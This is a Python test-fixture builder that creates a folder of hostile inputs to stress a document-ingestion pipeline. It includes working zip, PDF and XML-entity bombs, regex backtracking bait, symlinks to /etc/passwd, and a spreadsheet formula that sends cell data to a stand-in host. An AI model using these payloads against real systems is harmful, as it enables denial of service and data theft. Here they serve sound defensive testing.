"""The hostile folder of bench/hostile.py: the seeds, the bad inputs the tests already cover, and the
hostile entries of issue 13, built at run time (nothing hostile is kept in the repository).

Entries: a name that is not UTF-8, terminal escapes and a newline in a name, a number beyond 2⁶³, a
folder 1,000 levels deep, folder loops, .docx zip bombs (a 1 GB styles.xml, a 30 MB document.xml,
thousands of parts, entity expansion, deep nesting), PDFs (AES-encrypted, a stream that unpacks to
200 MB, 600 pages), pages of 400,000 elements or 100,000 nested divs, 1 MB of prose, 1 MB and
10 MB on one line without a full stop, backtracking bait for the address pattern («ab.» × 7,000,
«x@x.» × 25,000), formula cells, markup in a headline, a link to /etc/passwd and to /dev/zero, a
4 GB sparse file, a FIFO, a socket… Prose comes from ../shared/corpus/saudinewsnet.jsonl.gz
(research-only licence: read at run time, never copied into the repository).
"""

from __future__ import annotations

import gzip
import io
import json
import os
import re
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
CORPUS = ROOT.parent / "shared" / "corpus" / "saudinewsnet.jsonl.gz"

from core.ingest.walk import MAX_DEPTH  # noqa: E402
from tests.fixtures.ingest.make import bad_folder, pdf_with_text, word_document  # noqa: E402

DEEP_LEVELS = 1000
QUIET = "طقس معتدل في معظم المناطق\n\nتوقعت الأرصاد الجوية أن يسود طقس معتدل نهارا وبارد ليلا.\n"
ROAD = "افتتاح طريق جديد في المدينة\n\nافتتحت البلدية طريقا جديدا بطول 12 كيلومترا يربط الأحياء الشرقية بالمركز.\n"


def prose(size: int, one_line: bool, skip: int = 0) -> str:
    """SIZE characters of real articles (one line without full stops when ONE_LINE), from the
    SKIP-th article of the corpus on."""
    parts: list[str] = []
    total = 0
    with gzip.open(CORPUS, "rt", encoding="utf-8") as f:
        for k, line in enumerate(f):
            if k < skip:
                continue
            text = json.loads(line).get("content") or ""
            if one_line:
                text = re.sub(r"[\s.!?؟…]+", " ", text)
            parts.append(text)
            total += len(text) + 1
            if total >= size:
                break
    return (" " if one_line else "\n").join(parts)[:size]


def _zip(members: dict[str, bytes | tuple[int, bytes]]) -> bytes:
    """A zip; a member given as (n, chunk) is CHUNK written N times (a real bomb, streamed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            if isinstance(data, tuple):
                count, chunk = data
                with package.open(name, "w", force_zip64=True) as part:
                    for _ in range(count):
                        part.write(chunk)
            else:
                package.writestr(name, data)
    return out.getvalue()


def _docx_with(**parts: bytes | tuple[int, bytes]) -> bytes:
    """A real .docx with some parts replaced or added."""
    base = zipfile.ZipFile(io.BytesIO(word_document(QUIET)))
    members: dict[str, bytes | tuple[int, bytes]] = {n: base.read(n) for n in base.namelist()}
    members.update({k.replace("__", "/").replace("_xml", ".xml"): v for k, v in parts.items()})
    return _zip(members)


def _document_xml(body: str) -> bytes:
    ns = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return f'<?xml version="1.0" encoding="UTF-8"?><w:document {ns}><w:body>{body}</w:body></w:document>'.encode()


def _aes_pdf() -> bytes:
    """A PDF whose encryption dictionary asks for AES-256 (pypdf needs a crypto package for it)."""
    raw = pdf_with_text(["The convoy left."])
    prev = int(raw.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])

    def h(n: int) -> str:
        return "<" + "ab" * n + ">"

    obj = (
        f"8 0 obj\n<< /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O {h(48)} /U {h(48)} /OE {h(32)} "
        f"/UE {h(32)} /Perms {h(16)} /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> "
        "/StmF /StdCF /StrF /StdCF >>\nendobj\n"
    ).encode()
    out = raw + obj
    xref = len(out)
    ident = "<00112233445566778899aabbccddeeff>"
    out += (
        f"xref\n8 1\n{len(raw):010d} 00000 n \ntrailer\n<< /Size 9 /Root 1 0 R /Prev {prev} /Encrypt 8 0 R "
        f"/ID [{ident} {ident}] >>\nstartxref\n{xref}\n%%EOF\n"
    ).encode()
    return out


def _pdf(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    out.write("".join(f"{o:010d} 00000 n \n" for o in offsets).encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def _flate_bomb_pdf() -> bytes:
    import zlib

    stream = zlib.compress(b" " * (200 * 1024 * 1024), 9)
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            f"<< /Length {len(stream)} /Filter /FlateDecode >>\nstream\n".encode() + stream + b"\nendstream",
        ]
    )


def _many_pages_pdf(n: int) -> bytes:
    kids = " ".join(f"{3 + i} 0 R" for i in range(n)).encode()
    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>" for _ in range(n)]
    return _pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % n, *pages]
    )


def build(target: Path, seeds: Path) -> dict[str, str]:
    """The folder; returns {entry as the problems name it: what it is}."""
    kinds = bad_folder(target, seeds)  # the seeds at the top, and the kinds tests already cover
    h = target / "hostile"
    h.mkdir()
    files: dict[str, tuple[bytes, str]] = {
        "big-number.txt": (
            "كلفة المشروع\n\nبلغت الكلفة 10000000000.5 مليار دولار وفق تقديرات الوزارة.\n".encode(),
            "a number at or above 2^63",
        ),
        "percent-overlap.txt": (
            "نسب\n\nارتفعت النسبة من 0 ٪0 إلى 5 ٪3 خلال العام.\n".encode(),
            "'0 ٪0': overlapping spans",
        ),
        "formula.txt": (
            '=HYPERLINK("http://evil.example/?"&A1,"اضغط")\n\n+قتل 7 أشخاص.\n@أصيب 3 آخرون.\n-نزح 40 شخصا.\n'.encode(),
            "cells starting with = + @ - (CSV formula injection)",
        ),
        "markup-title.txt": (
            '<img src="file:///etc/passwd"><b>عاجل</b> حريق في مستودع\n\nاندلع حريق في مستودع للأخشاب.\n'.encode(),
            "markup in a headline (rich text in tooltips)",
        ),
        "ab-dots.txt": (("خبر\n\n" + "ab." * 7000 + " 5 أشخاص\n").encode(), "'ab.' x 7000: web-address backtracking"),
        "x-at-x.txt": (("خبر\n\n" + "x@x." * 25000 + " 5 أشخاص\n").encode(), "'x@x.' x 25000: e-mail backtracking"),
        "one-line-1mb.txt": (prose(900_000, True, skip=15_000).encode(), "900,000 characters, one line, no full stop"),
        "one-line-10mb.txt": (prose(10_000_000, True).encode(), "10 MB on one line (line budget)"),
        "prose-1mb.txt": (prose(1_000_000, False).encode(), "1 MB of prose (sentence splitter rescans)"),
        "digits.txt": (
            ("أرقام\n\n" + "1" * 100_000 + " و" + "1" + ",000" * 20_000 + "\n").encode(),
            "numbers of 100,000 digits",
        ),
        "dots.txt": (("نقاط\n\n" + ". " * 20_000 + "\n").encode(), "20,000 full stops"),
        "controls-bidi.txt": (
            ("خبر\n\nقتل \u202e5\u202c أشخاص \u200f\u200e\u2066في\u2069 الحادث.\x1b[31m\n").encode(),
            "direction overrides and an escape code in the text",
        ),
        "tashkeel.txt": (
            ("خبر\n\nقَ" + "\u064e" * 200_000 + "تل 5 أشخاص.\n").encode(),
            "200,000 combining marks on one letter",
        ),
        "nul-utf8.txt": (QUIET.encode() + b"\x00" * 10 + ROAD.encode(), "NUL bytes inside UTF-8"),
        "utf32.txt": (b"\xff\xfe\x00\x00" + QUIET.encode("utf-32-le"), "UTF-32 with a byte-order mark"),
        "lone-cr.txt": (ROAD.replace("\n", "\r").encode(), "old Mac line ends (CR only)"),
        "not-really.pdf": (QUIET.encode(), "text with a .pdf name"),
        "aes.pdf": (_aes_pdf(), "AES-256-encrypted PDF (needed a package not installed)"),
        "flate-bomb.pdf": (_flate_bomb_pdf(), "a PDF stream that unpacks to 200 MB"),
        "600-pages.pdf": (_many_pages_pdf(600), "a PDF of 600 pages"),
        "styles-bomb.docx": (
            _docx_with(word__styles_xml=(1024, b"<!-- " + b" " * (1024 * 1024 - 10) + b" -->")),
            "a .docx whose styles.xml unpacks to 1 GB",
        ),
        "big-document.docx": (
            _docx_with(word__document_xml=_document_xml("<w:p><w:r><w:t>كلام 5</w:t></w:r></w:p>" * 700_000)),
            "a .docx whose document.xml is 30 MB",
        ),
        "many-parts.docx": (
            _docx_with(**{f"word__media__x{i}_xml": b"<x/>" for i in range(3000)}),
            "a .docx of 3,000 parts",
        ),
        "entities.docx": (
            _docx_with(
                word__document_xml=b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
                + b"".join(
                    b'<!ENTITY %s "%s">' % (c, (b"&" + p + b";") * 10)
                    for p, c in zip([bytes([x]) for x in b"abcdefgh"], [bytes([x]) for x in b"bcdefghi"], strict=True)
                )
                + b']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                b"<w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body></w:document>"
            ),
            "a .docx with entity expansion (billion laughs)",
        ),
        "deep-xml.docx": (
            _docx_with(word__document_xml=_document_xml("<w:p>" * 5000 + "</w:p>" * 5000)),
            "a .docx nested 5,000 elements deep",
        ),
        "macro.docx": (
            _docx_with(word__vbaProject_bin=b"\xd0\xcf\x11\xe0" + bytes(4096)),
            "a macro-enabled document renamed .docx",
        ),
        "elements.html": (
            ("<html><body>" + "<div><p>كلام 5</p></div>" * 200_000 + "</body></html>").encode(),
            "a page of 400,000 elements",
        ),
        "nested.html": (
            ("<html><body>" + "<div>" * 100_000 + "نص" + "</div>" * 100_000 + "</body></html>").encode(),
            "100,000 nested divs",
        ),
        "script-heavy.html": (
            (
                "<html><head><script>" + "var a=1;" * 500_000 + "</script></head><body><article><h1>سيول</h1>"
                "<p>جرفت السيول 3 سيارات في الوادي صباح اليوم بعد أمطار غزيرة على المنطقة.</p>"
                "</article></body></html>"
            ).encode(),
            "4 MB of script around a short article",
        ),
        "base64-image.html": (
            (
                "<html><body><article><h1>معرض</h1><p>افتتح معرض للكتاب يضم 500 دار نشر من دول عدة.</p>"
                '<img src="data:image/png;base64,' + "A" * 8_000_000 + '"></article></body></html>'
            ).encode(),
            "an 8 MB inline image",
        ),
        "wrong-charset.html": (
            '<html><head><meta charset="utf-8"></head><body><p>خبر قصير عن 4 حوادث</p></body></html>'.encode("cp1256"),
            "a page in windows-1256 that says utf-8",
        ),
    }
    for name, (data, kind) in files.items():
        (h / name).write_bytes(data)
        kinds[f"hostile/{name}"] = kind
    odd = os.fsencode(str(h)) + b"/\xc7\xe1\xc3\xce\xc8\xc7\xd1.txt"  # «الأخبار» in windows-1256, as unzip leaves it
    Path(os.fsdecode(odd)).write_bytes(ROAD.replace("12", "14").encode())
    kinds["hostile/\\xc7\\xe1\\xc3\\xce\\xc8\\xc7\\xd1.txt"] = "a name that is not UTF-8"
    (h / "esc\x1b[2J\x1b[31mred\nline.txt").write_bytes(b"")
    kinds["hostile/esc\x1b[2J\x1b[31mred\nline.txt"] = "terminal escapes and a newline in an (empty) file's name"
    (h / ("\u202etxt.exe")).write_bytes(b"")
    (h / "\u202eevil-txt.md").write_bytes(b"")
    kinds["hostile/\u202eevil-txt.md"] = "a direction override in an (empty) file's name"
    (h / ("long-" + "ا" * 120 + ".txt")).write_bytes(b"")
    kinds["hostile/long-" + "ا" * 120 + ".txt"] = "a 250-byte (empty) file name"
    os.symlink("/etc/passwd", h / "passwd.txt")
    kinds["hostile/passwd.txt"] = "a link to /etc/passwd"
    os.symlink("/dev/zero", h / "zero.txt")
    kinds["hostile/zero.txt"] = "a link to /dev/zero"
    os.symlink("/etc", h / "etc-link")
    kinds["hostile/etc-link"] = "a link to a folder outside"
    with open(h / "huge-4gb.txt", "wb") as big:
        big.truncate(4 * 1024**3)
    kinds["hostile/huge-4gb.txt"] = "a 4 GB (sparse) file"
    with open(h / "huge-4gb.html", "wb") as big:
        big.truncate(4 * 1024**3)
    kinds["hostile/huge-4gb.html"] = "a 4 GB (sparse) page"
    os.mkfifo(h / "fifo.md")
    kinds["hostile/fifo.md"] = "a FIFO named .md"
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(h / "socket.txt"))
    sock.close()
    kinds["hostile/socket.txt"] = "a socket named .txt"
    (h / "folder.txt").mkdir()
    (h / "folder.txt" / "inner.txt").write_text(ROAD.replace("12", "19"), encoding="utf-8")
    deep = h / "deep"
    deep.mkdir()
    here = os.open(deep, os.O_RDONLY)
    for _ in range(DEEP_LEVELS):  # level by level, relative to the one above (pathlib and os.makedirs recurse)
        os.mkdir("d", dir_fd=here)
        below = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    bottom = os.open("bottom.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=here)
    os.write(bottom, QUIET.encode())
    os.close(bottom)
    os.close(here)
    # hostile/deep/d/…: the first folder past the depth budget is reported (hostile and deep are two levels)
    kinds["hostile/deep/" + "/".join(["d"] * (MAX_DEPTH - 1))] = "a folder 1,000 levels deep"
    os.symlink("../..", h / "folder.txt" / "loop")
    kinds["hostile/folder.txt/loop"] = "a link back up (a loop)"
    return kinds


def remove_tree(path: Path) -> None:
    """Remove a built folder: `rm -rf` (shutil.rmtree recurses, and the folder is 1,000 levels deep)."""
    subprocess.run(["rm", "-rf", "--", str(path)], check=False)
